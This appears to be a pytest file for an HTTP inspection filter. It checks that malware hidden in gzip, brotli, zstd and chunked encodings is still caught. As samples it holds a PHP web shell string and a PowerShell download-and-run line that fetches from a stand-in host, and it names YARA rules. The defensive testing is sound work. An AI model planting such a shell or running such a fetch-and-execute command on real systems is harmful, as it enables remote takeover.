"""Coded bodies as receivers have them that don't undo the coding: they are judged like any other object."""

import gzip
import os
import random
import zlib

import brotli
import pytest
import zstandard

from filters.inspection.limits import DEFAULT_LIMITS
from filters.inspection.objects.as_sent import AsSent, hides_archive, own_type
from filters.inspection.objects.holding import ObjectStore
from filters.inspection.spec import Hold, InspectionSpec
from tests.filters.inspection.drive import DOWN, EICAR, GET, UP, Driven, answer, chunked, exchange
from tests.filters.inspection.test_archive_disguises import written
from tests.filters.inspection.test_hidden import brotli_with_metadata
from tests.filters.inspection.test_objects import tarred, zipped

MALWARE = InspectionSpec(frozenset({"malware"}))
TYPES = InspectionSpec(frozenset(), deny_types=frozenset({"executable", "document", "script", "archive"}))
SHELL = b"<?php system($_" + b"GET['c']); ?>"
PAGE = b"<html><script>IEX(New-Object Net.WebClient).Download" + b"String('http://e/x')</script>"
PROGRAM = (
    b"MZ" + bytes(58) + (128).to_bytes(4, "little") + bytes(64) + b"PE\0\0" + bytes(300) + os.urandom(700)
)
PACK = {
    b"gzip": gzip.compress,
    b"deflate": zlib.compress,
    b"br": lambda data: brotli.compress(data, quality=5),
    b"zstd": zstandard.compress,
}


def brotli_that_begins_as_a_program() -> bytes:
    """`MZ` is a brotli header: a window, and one block as it is, of more than a MiB."""
    size = ((1 << 20) & ~0x1FF) | (ord("Z") << 1)
    head = b"MZ" + bytes([(size >> 9) & 0xFF, (size >> 17) | 0x80])
    return head + PROGRAM[4:] + bytes(size + 1 - len(PROGRAM) + 4) + b"\3"


def skippable(data: bytes) -> bytes:
    return b"\x50\x2a\x4d\x18" + len(data).to_bytes(4, "little") + data


def driven_by(
    coding: bytes, coded: bytes, spec: InspectionSpec = MALWARE, field: bytes = b"Content-Encoding"
) -> list[Driven]:
    label = field + b": " + coding
    upload = b"PUT /a HTTP/1.1\r\nHost: h\r\n%s\r\nContent-Length: %d\r\n\r\n" % (label, len(coded)) + coded
    return [exchange([(UP, GET), (DOWN, answer(coded, label))], spec), exchange([(UP, upload)], spec)]


def checks(coding: bytes, coded: bytes, spec: InspectionSpec = MALWARE) -> list[str]:
    down, up = driven_by(coding, coded, spec)
    assert down.checks == up.checks
    return down.checks


def test_rejects_a_program_that_is_brotli_as_well() -> None:
    coded = brotli_that_begins_as_a_program()
    assert brotli.decompress(coded) == coded[4:-1]
    for one in driven_by(b"br", coded, TYPES):
        assert one.checks == ["object-type"]
        assert one.out != one.sent
    only_images = InspectionSpec(frozenset(), allow_types=frozenset({"application/octet-stream"}))
    assert checks(b"br", coded, only_images) == ["object-type"]


@pytest.mark.parametrize("hold", list(Hold))
def test_finds_what_decodes_to_nothing(hold: Hold) -> None:
    spec = InspectionSpec(frozenset({"malware"}), hold=hold)
    for coding, coded in ((b"zstd", skippable(PAGE)), (b"br", brotli_with_metadata(PAGE))):
        assert checks(coding, coded, spec) == ["yara.powershell_download_and_run"]


def _gzip_with_comment(comment: bytes) -> bytes:
    packed = gzip.compress(b"harmless", mtime=0)
    return packed[:3] + b"\x10" + packed[4:10] + comment + b"\0" + packed[10:]


def test_finds_what_a_gzip_header_holds() -> None:
    for hidden, wanted in ((SHELL, "yara.php_shell"), (PAGE, "yara.powershell_download_and_run")):
        assert checks(b"gzip", _gzip_with_comment(hidden)) == [wanted]


def test_finds_what_a_coding_skips() -> None:
    assert checks(b"br", brotli_with_metadata(written("7zip", EICAR), b"harmless")) == ["coding-archive"]


def test_finds_what_stands_between_two_codings() -> None:
    coded = gzip.compress(brotli_with_metadata(PAGE))
    assert checks(b"br, gzip", coded) == ["yara.powershell_download_and_run"]
    hidden = gzip.compress(brotli_with_metadata(zipped({"a": EICAR}), b"harmless"))
    assert checks(b"br, gzip", hidden) == ["coding-archive"]


def test_finds_what_a_transfer_coding_hides() -> None:
    said = answer(chunked(_gzip_with_comment(SHELL)), b"Transfer-Encoding: gzip, chunked", length=False)
    assert exchange([(UP, GET), (DOWN, said)], MALWARE).checks == ["yara.php_shell"]


def test_rejects_an_archive_that_only_the_coded_bytes_are() -> None:
    for name, data in {"tar": tarred({"a": EICAR}, "w:"), "zip, cut": zipped({"a": EICAR})[:-30]}.items():
        assert hides_archive(AsSent("br", data), b"harmless"), name
        assert not hides_archive(AsSent("br", data), data), name
    assert hides_archive(AsSent("br", gzip.compress(EICAR)), b"harmless")
    assert not hides_archive(AsSent("gzip", gzip.compress(EICAR)), EICAR)


@pytest.mark.parametrize("coding", list(PACK))
def test_ordinary_files_pass_coded(coding: bytes) -> None:
    noise = random.Random(5).randbytes(150_000)
    files = {
        "page": b"<html><body>words, and more of them</body></html>" * 50,
        "image": b"\x89PNG\r\n\x1a\n" + noise,
        "7z": written("7zip", noise),
        "tar": tarred({"a": noise}, "w:"),
        "zip": zipped({"a": noise}),
        "nothing": b"",
    }
    for name, data in files.items():
        denied = InspectionSpec(frozenset({"malware", "secrets"}), deny_types=frozenset({"executable"}))
        assert checks(coding, PACK[coding](data), denied) == [], name
    only_text = InspectionSpec(frozenset({"malware"}), allow_types=frozenset({"text"}))
    no_archives = InspectionSpec(frozenset({"malware"}), deny_types=frozenset({"archive"}))
    for spec in (only_text, no_archives):
        for name in ("page", "nothing"):
            assert checks(coding, PACK[coding](files[name]), spec) == []


@pytest.mark.parametrize("typed", [b"multipart/mixed; boundary=x", b"message/rfc822"])
def test_nothing_coded_has_no_parts(typed: bytes) -> None:
    said = answer(gzip.compress(b""), b"Content-Encoding: gzip", b"Content-Type: " + typed)
    assert exchange([(UP, GET), (DOWN, said)], InspectionSpec(frozenset({"secrets"}))).checks == []


@pytest.mark.parametrize("coding", list(PACK))
def test_what_is_made_smaller_has_no_type_by_chance(coding: bytes) -> None:
    rolled = random.Random(6)
    for size in (30, 300, 3000, 30_000):
        for _ in range(40):
            text = b" ".join(rolled.randbytes(2).hex().encode() for _ in range(size // 5))
            for data in (text, rolled.randbytes(size)):
                sent = AsSent(coding.decode(), PACK[coding](data))
                assert own_type(sent) is None
                assert not hides_archive(sent, data)


def test_two_bytes_make_no_script_of_coded_bytes() -> None:
    assert own_type(AsSent("br", b"#!" + bytes(range(40)) * 9)) is None
    assert own_type(AsSent("br", b"#! /bin/sh\0" + bytes(range(40)) * 9)) is not None


def test_coded_bytes_that_show_nothing_lag() -> None:
    store = ObjectStore(DEFAULT_LIMITS)
    store.begin("x", "", wanted=True)
    store.add_coded(0, "gzip", bytes(10), shown=False)  # its head
    store.new_piece(10)
    store.add_coded(0, "gzip", b"x" * 200, shown=True)
    assert not store.lagging
    store.new_piece(210)
    store.add_coded(0, "gzip", b"x" * 200, shown=False)
    assert store.lagging
    assert store.safe == 210
    assert store.size == 410
    assert [one.data for one in store.as_sent()] == [bytes(10) + b"x" * 400]


def test_events_that_are_coded_go_on_one_by_one() -> None:
    packer = zlib.compressobj(wbits=31)
    head = b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nContent-Encoding: gzip\r\nTransfer-Encoding: chunked\r\n\r\n"
    driven = Driven().feed(UP, GET).feed(DOWN, head)
    for number in range(20):
        piece = packer.compress(b"data: %d\n\n" % number) + packer.flush(zlib.Z_SYNC_FLUSH)
        driven.feed(DOWN, b"%x\r\n%s\r\n" % (len(piece), piece))
        assert driven.out[DOWN] == driven.sent[DOWN]
    assert driven.findings == []


@pytest.mark.parametrize(
    ("accepted", "coding", "wanted"),
    [
        (b"Accept-Encoding: gzip, deflate", b"br", ["coding-unasked"]),
        (b"Accept-Encoding: identity", b"zstd", ["coding-unasked"]),
        (b"Accept-Encoding: gzip, br;q=0", b"br", ["coding-unasked"]),
        (b"Accept-Encoding: gzip, deflate, br, zstd", b"br", []),
        (b"Accept-Encoding: gzip;q=1.0, ZSTD; q=0.5", b"zstd", []),
        (b"Accept-Encoding: *", b"br", []),
        (b"Accept-Encoding: gzip\r\nAccept-Encoding: br", b"br", []),
        (b"Accept-Encoding: identity", b"gzip", []),  # kept on disks as it is, it comes so whatever was asked
        (b"X: y", b"br", []),
    ],
)
def test_rejects_a_coding_that_the_client_can_not_undo(
    accepted: bytes, coding: bytes, wanted: list[str]
) -> None:
    asked = b"GET / HTTP/1.1\r\nHost: h\r\n" + accepted + b"\r\n\r\n"
    said = answer(PACK[coding](b"fine"), b"Content-Encoding: " + coding)
    assert exchange([(UP, asked), (DOWN, said)]).checks == wanted


@pytest.mark.parametrize("coding", [b"br", b"zstd", b"identity", b"compress"])
def test_rejects_a_transfer_coding_that_is_none(coding: bytes) -> None:
    pack = PACK.get(coding, bytes)
    said = answer(chunked(pack(b"fine")), b"Transfer-Encoding: " + coding + b", chunked", length=False)
    assert exchange([(UP, GET), (DOWN, said)]).checks == ["http-transfer-coding"]
    for known in (b"gzip", b"deflate"):
        said = answer(
            chunked(PACK[known](b"fine")), b"Transfer-Encoding: " + known + b", chunked", length=False
        )
        assert exchange([(UP, GET), (DOWN, said)]).findings == []
